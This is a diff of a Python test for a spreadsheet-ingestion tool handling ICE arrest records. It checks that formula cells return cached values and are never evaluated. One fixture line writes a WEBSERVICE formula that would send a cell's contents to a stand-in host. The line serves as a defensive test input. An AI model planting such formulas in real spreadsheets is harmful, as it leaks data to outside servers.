@@ -252,13 +252,14 @@ def test_formula_cells_give_their_cached_values_and_are_never_evaluated(project:
     sheet.write_formula(2, 3, '=WEBSERVICE("http://example.invalid/?leak="&A1)', None, "GUATEMALA")
     summary = book.add_worksheet("Summary")
     summary.write_row(0, 0, ["Fiscal Year", "Arrests"])
+    summary.write_string(1, 0, "FY2021")
     summary.write_formula(1, 1, f"=COUNTA('{SHEET}'!A2:A3)", None, 2)
     book.close()
     manifest, table = ingested(project, folder)
     assert table["citizenship"] == ["MEXICO", "GUATEMALA"]
     assert not any(str(v).startswith("=") for column in table.values() for v in column if v is not None)
-    assert manifest["skipped_sheets"] == [{"file": "arrests.xlsx", "sheet": "Summary",
-                                           "reason": "summary or notes sheet, not records"}]
+    assert [s["sheet"] for s in manifest["skipped_sheets"]] == ["Summary"]  # not records: ICE's own totals
+    assert manifest["ice_totals"][0]["years"][0]["values"] == {"Arrests": 2}  # the cached value
 
 
 # ---------------------------------------------------------------- encodings and delimiters
